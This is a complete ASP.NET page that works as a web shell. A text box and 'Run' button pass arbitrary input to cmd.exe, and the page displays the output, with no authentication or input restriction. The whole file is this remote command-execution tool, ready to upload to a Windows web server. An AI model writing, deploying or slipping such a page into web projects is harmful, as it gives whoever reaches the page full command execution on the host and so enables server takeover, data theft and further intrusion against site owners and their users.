<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
    string Run(string line)
    {
        ProcessStartInfo si = new ProcessStartInfo();
        si.FileName = "cmd.exe";
        si.Arguments = "/c " + line;
        si.UseShellExecute = false;
        si.RedirectStandardOutput = true;
        return Process.Start(si).StandardOutput.ReadToEnd();
    }
    protected void Go_Click(object sender, EventArgs e) { outp.Text = Server.HtmlEncode(Run(inp.Text)); }
</script>
<html><body><form runat="server">
<asp:TextBox ID="inp" runat="server" /><asp:Button ID="go" runat="server" Text="Run" OnClick="Go_Click" /><pre><asp:Literal ID="outp" runat="server" /></pre>
</form></body></html>
